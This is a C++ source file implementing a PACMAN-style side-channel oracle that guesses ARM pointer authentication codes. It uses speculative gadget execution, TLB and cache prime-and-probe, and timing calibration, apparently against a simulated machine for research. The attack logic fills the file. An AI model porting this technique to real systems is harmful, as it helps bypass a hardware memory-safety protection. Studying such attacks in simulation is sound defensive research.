#include "oracle.hh"

#include <algorithm>

#include "base/logging.hh"
#include "base/stats.hh"
#include "kernel/layout.hh"

namespace pacman::attack
{

using namespace pacman::kernel;

PacOracle::PacOracle(AttackerProcess &proc, const OracleConfig &cfg)
    : proc_(proc), cfg_(cfg), evsets_(proc.machine())
{
}

bool
PacOracle::isTargetUsable(Addr target) const
{
    if (cfg_.channel == Channel::L1dSet) {
        if (cfg_.kind != GadgetKind::Data)
            return false; // instruction fetches do not touch the L1D
        // The probed cache set must avoid the lines the trial itself
        // touches: the cond/modifier and benign-data kernel lines
        // live in set 0, and the argument arrays occupy the first
        // few lines of whichever half their page parity selects.
        const uint64_t line_set = evsets_.l1dSetOf(target);
        return (line_set & 0xFF) > 4;
    }
    const uint64_t set = evsets_.dtlbSetOf(target);
    for (uint64_t reserved : proc_.reservedDtlbSets()) {
        if (set == reserved)
            return false;
    }
    // The probe set must also differ from the reset pages' dTLB set
    // (the reset stride aliases the cond page's sets).
    const auto &kern = proc_.machine().kernel();
    if (set == evsets_.dtlbSetOf(kern.condSlot()))
        return false;
    if (cfg_.kind != GadgetKind::Data) {
        // The BTB-predicted page (benign_fn) must be a different page
        // than the target, and its spill set must not be probed.
        if (isa::pageNumber(isa::vaPart(target)) ==
            isa::pageNumber(isa::vaPart(kern.benignFn()))) {
            return false;
        }
        if (set == evsets_.dtlbSetOf(kern.benignFn()))
            return false;
    }
    return true;
}

void
PacOracle::setTarget(Addr target, uint64_t modifier)
{
    if (!isTargetUsable(target)) {
        fatal("oracle: target 0x%llx collides with infrastructure "
              "dTLB sets; pick a different page",
              (unsigned long long)target);
    }
    target_ = isa::stripPac(target);
    modifier_ = modifier;

    rebuildSets();

    // Tell the gadget kext which modifier to authenticate against,
    // then obtain a legitimately signed training pointer.
    proc_.syscall(SYS_SET_MODIFIER, modifier_);
    const uint16_t legit_sys = cfg_.kind == GadgetKind::Data
                                   ? SYS_GET_LEGIT_DATA
                                   : SYS_GET_LEGIT_INST;
    legitPtr_ = proc_.syscall(legit_sys);

    if (cfg_.autoCalibrate)
        calibrate();
}

void
PacOracle::refreshLegitPointer()
{
    PACMAN_ASSERT(target_ != 0, "oracle used before setTarget()");
    const uint16_t legit_sys = cfg_.kind == GadgetKind::Data
                                   ? SYS_GET_LEGIT_DATA
                                   : SYS_GET_LEGIT_INST;
    legitPtr_ = proc_.syscall(legit_sys);
}

PacOracle::Snapshot
PacOracle::takeSnapshot() const
{
    Snapshot snap;
    snap.cfg = cfg_;
    snap.target = target_;
    snap.modifier = modifier_;
    snap.legitPtr = legitPtr_;
    snap.resetList = resetList_;
    snap.primeList = primeList_;
    snap.trampIndices = trampIndices_;
    snap.queries = queries_;
    snap.canaryAddr = canaryAddr_;
    snap.calibHitLo = calibHitLo_;
    snap.calibHitHi = calibHitHi_;
    snap.stats = stats_;
    snap.proc = proc_.takeSnapshot();
    return snap;
}

void
PacOracle::restore(const Snapshot &snap)
{
    cfg_ = snap.cfg;
    target_ = snap.target;
    modifier_ = snap.modifier;
    legitPtr_ = snap.legitPtr;
    resetList_ = snap.resetList;
    primeList_ = snap.primeList;
    trampIndices_ = snap.trampIndices;
    queries_ = snap.queries;
    canaryAddr_ = snap.canaryAddr;
    calibHitLo_ = snap.calibHitLo;
    calibHitHi_ = snap.calibHitHi;
    stats_ = snap.stats;
    proc_.restore(snap.proc);
}

void
PacOracle::rebuildSets()
{
    auto &kern = proc_.machine().kernel();

    // Argument arrays move away from the probed set.
    const uint64_t probe_set = evsets_.dtlbSetOf(target_);
    const unsigned list_page = unsigned((probe_set + 100) % 256);
    const unsigned out_page = unsigned((probe_set + 101) % 256);
    proc_.placeArrays(list_page, out_page);

    // Reset list: evict the guard-condition page's translation so
    // the gadget's branch resolves late (long speculation window).
    resetList_ = evsets_.l2tlbSet(evsets_.l2tlbSetOf(kern.condSlot()),
                                  evsets_.l2tlbWays());

    // Prime list: the target's set in the probed structure.
    if (cfg_.channel == Channel::L1dSet) {
        primeList_ = evsets_.l1dSet(evsets_.l1dSetOf(target_),
                                    evsets_.l1dWays());
    } else {
        primeList_ = evsets_.dtlbSet(probe_set, evsets_.dtlbWays());
    }

    if (cfg_.kind != GadgetKind::Data) {
        // Kernel iTLB eviction indices; never fetch the target's own
        // trampoline page (if the target is one) — that would refill
        // rather than spill its entry.
        const uint64_t target_page = isa::pageNumber(isa::vaPart(target_));
        trampIndices_.clear();
        for (uint64_t idx : evsets_.trampolineIndicesFor(
                 evsets_.itlbSetOf(target_), evsets_.itlbWays() + 1)) {
            const uint64_t page = isa::pageNumber(
                isa::vaPart(TrampolineBase)) + idx;
            if (page != target_page)
                trampIndices_.push_back(idx);
        }
        trampIndices_.resize(evsets_.itlbWays());
    }

    // Sanity-check canary: one noise-arena page whose dTLB set
    // collides with nothing the query touches. Arena page i maps to
    // dTLB set i (mod sets), so the page index is the set index.
    const uint64_t sets = proc_.machine().mem().config().dtlb.sets;
    canaryAddr_ = kernel::NoiseArena +
                  quietDtlbSet((probe_set + 61) % sets) * isa::PageSize;
}

uint64_t
PacOracle::quietDtlbSet(uint64_t start) const
{
    const auto &kern = proc_.machine().kernel();
    const uint64_t sets = proc_.machine().mem().config().dtlb.sets;
    const uint64_t probe_set = evsets_.dtlbSetOf(target_);
    const auto reserved = proc_.reservedDtlbSets();
    for (uint64_t off = 0; off < sets; ++off) {
        const uint64_t s = (start + off) % sets;
        bool ok = s != probe_set &&
                  s != evsets_.dtlbSetOf(kern.condSlot()) &&
                  s != (probe_set + 100) % sets &&   // list array page
                  s != (probe_set + 101) % sets;     // out array page
        if (cfg_.kind != GadgetKind::Data &&
            s == evsets_.dtlbSetOf(kern.benignFn())) {
            ok = false;
        }
        for (uint64_t r : reserved) {
            if (s == r)
                ok = false;
        }
        if (ok)
            return s;
    }
    panic("no quiet dTLB set available");
}

void
PacOracle::calibrate()
{
    ++stats_.calibrations;

    // Measure on a quiet set, offset from the canary's so calibration
    // traffic does not evict it between prime and check.
    const uint64_t sets = proc_.machine().mem().config().dtlb.sets;
    const uint64_t cal_set =
        quietDtlbSet((evsets_.dtlbSetOf(target_) + 173) % sets);
    std::vector<Addr> evict =
        evsets_.dtlbSet(cal_set, evsets_.dtlbWays() + 1);
    const Addr probe = evict.back();
    evict.pop_back();

    // Hit distribution: repeated timed loads of a resident page.
    // Miss distribution: evict the set (one more page than ways),
    // then take the timed load that has to re-walk.
    SampleStat hit, miss;
    proc_.loadAll({probe});
    for (unsigned i = 0; i < cfg_.calibrationSamples; ++i)
        hit.add(double(proc_.timedLoad(probe)));
    for (unsigned i = 0; i < cfg_.calibrationSamples; ++i) {
        proc_.loadAll(evict);
        miss.add(double(proc_.timedLoad(probe)));
    }

    calibHitLo_ = hit.percentile(10);
    calibHitHi_ = hit.percentile(90);
    const double miss_lo = miss.percentile(10);
    double thr = (calibHitHi_ + miss_lo) / 2.0;
    if (miss_lo <= calibHitHi_ + 1.0) {
        // Distributions overlap (should not happen on healthy
        // hardware): fall back to just above the hit mass.
        thr = std::max(thr, hit.mean() + 2.0);
    }
    cfg_.latencyThreshold = uint64_t(thr + 0.5);
}

bool
PacOracle::healthyHit(double count) const
{
    if (count <= 0.0)
        return false; // a frozen timer reads back zero deltas
    if (count > double(cfg_.latencyThreshold))
        return false;
    if (calibHitHi_ > 0.0) {
        // Calibrated: the count must also sit inside the measured
        // hit band. A count far *below* it means the latency/timer
        // regime shifted down (e.g. migration back to the p-core
        // with a stale e-core threshold) — equally disturbed.
        const double slack =
            4.0 + 2.0 * double(proc_.machine().config().timerJitter);
        if (count < calibHitLo_ - slack || count > calibHitHi_ + slack)
            return false;
    }
    return true;
}

bool
PacOracle::verifyEvictionSets()
{
    proc_.loadAll(primeList_);
    for (uint64_t count : proc_.probeAll(primeList_)) {
        if (!healthyHit(double(count)))
            return false;
    }
    return true;
}

void
PacOracle::repairEvictionSets()
{
    ++stats_.repairs;
    rebuildSets();
}

uint16_t
PacOracle::gadgetSyscall() const
{
    switch (cfg_.kind) {
      case GadgetKind::Data: return SYS_GADGET_DATA;
      case GadgetKind::Instruction: return SYS_GADGET_INST;
      case GadgetKind::Combined: return SYS_GADGET_BRAA;
      default: panic("bad gadget kind");
    }
}

void
PacOracle::train()
{
    proc_.syscall(SYS_SET_COND, 1);
    proc_.syscallRepeat(gadgetSyscall(), legitPtr_, cfg_.trainIters);
}

unsigned
PacOracle::probeMisses(uint16_t guessed_pac)
{
    PACMAN_ASSERT(target_ != 0, "oracle used before setTarget()");
    if (cfg_.queryRetries == 0)
        return probeOnce(guessed_pac, nullptr);

    // Self-healing path: retry queries the sanity check flags as
    // disturbed, with backoff between attempts; the last attempt's
    // answer stands either way.
    unsigned misses = 0;
    for (unsigned attempt = 0;; ++attempt) {
        bool disturbed = false;
        misses = probeOnce(guessed_pac, &disturbed);
        if (!disturbed || attempt >= cfg_.queryRetries)
            break;
        ++stats_.retriedQueries;
        backoff(attempt);
    }
    return misses;
}

unsigned
PacOracle::probeOnce(uint16_t guessed_pac, bool *disturbed)
{
    const uint16_t gadget = gadgetSyscall();

    proc_.machine().injectNoise();

    // (1) Train the guard branch (and BTB) with the legit pointer.
    train();

    // (2) Disarm the architectural path.
    proc_.syscall(SYS_SET_COND, 0);

    // (3) Reset: open the speculation window.
    if (!cfg_.skipReset)
        proc_.loadAll(resetList_);

    // (4) Prime the target's dTLB set.
    proc_.loadAll(primeList_);

    // Plant the canary alongside the prime: anything that flushes or
    // skews measurements between here and the probe hits it too —
    // but its set is quiet, so the query itself never evicts it.
    if (disturbed)
        proc_.loadAll({canaryAddr_});

    proc_.machine().injectNoise();

    // (5) Fire the gadget with the guessed signed pointer, retrying
    // transient busy errors within the budget. A busy call is not
    // free: its own mispredicted busy-check branch speculatively runs
    // the gadget prologue and refills the reset-evicted cond
    // translation, so a bare refire would find the speculation window
    // already closed. Each retry therefore replays the recipe from
    // the reset step.
    const uint64_t guess_ptr = isa::withExt(target_, guessed_pac);
    uint64_t ret = proc_.syscall(gadget, guess_ptr);
    ++queries_;
    for (unsigned b = 0;
         ret == SyscallBusy && b < cfg_.busyRetries; ++b) {
        ++stats_.busyRetries;
        if (!cfg_.skipReset)
            proc_.loadAll(resetList_);
        proc_.loadAll(primeList_);
        if (disturbed)
            proc_.loadAll({canaryAddr_});
        ret = proc_.syscall(gadget, guess_ptr);
        ++queries_;
    }
    const bool gadget_ran = ret != SyscallBusy;

    // (6) Instruction-fetch gadgets: spill the (possibly) filled
    // kernel iTLB entry into the shared dTLB.
    if (cfg_.kind != GadgetKind::Data) {
        for (uint64_t idx : trampIndices_)
            proc_.syscall(SYS_FETCH_TRAMP, idx);
    }

    // (7) Probe.
    unsigned misses = 0;
    for (uint64_t count : proc_.probeAll(primeList_)) {
        if (count > cfg_.latencyThreshold)
            ++misses;
    }

    // (8) Sanity check: the canary must still read as a healthy hit.
    // A high delta means its translation was flushed or the latency
    // regime shifted; a zero delta means the timer was stalled; a
    // busy-exhausted gadget means the window never opened at all.
    if (disturbed) {
        const double canary = double(proc_.timedLoad(canaryAddr_));
        if (!gadget_ran || !healthyHit(canary)) {
            *disturbed = true;
            ++stats_.disturbedQueries;
        }
    }
    return misses;
}

void
PacOracle::backoff(unsigned attempt)
{
    // Idle exponentially (NOP syscalls burn real simulated cycles)
    // so transient bursts — timer stalls, jitter bursts, the tail of
    // a preemption — expire before the retry.
    proc_.syscallRepeat(SYS_NOP, 0, 8u << std::min(attempt, 4u));

    // Escalate from the second attempt on: if the prime list no
    // longer reads back healthy the disturbance was not transient —
    // recalibrate (migration moved the latency regime) and rebuild
    // the derived sets.
    if (attempt >= 1 && !verifyEvictionSets()) {
        if (cfg_.autoCalibrate)
            calibrate();
        repairEvictionSets();
    }
}

bool
PacOracle::testPac(uint16_t guessed_pac)
{
    return probeMisses(guessed_pac) >= cfg_.missThreshold;
}

double
PacOracle::sampledMisses(uint16_t guessed_pac, unsigned samples)
{
    PACMAN_ASSERT(samples >= 1, "need at least one sample");
    SampleStat misses;
    for (unsigned i = 0; i < samples; ++i)
        misses.add(double(probeMisses(guessed_pac)));
    return misses.median();
}

bool
PacOracle::testPacSampled(uint16_t guessed_pac, unsigned samples)
{
    return sampledMisses(guessed_pac, samples) >= cfg_.missThreshold;
}

} // namespace pacman::attack
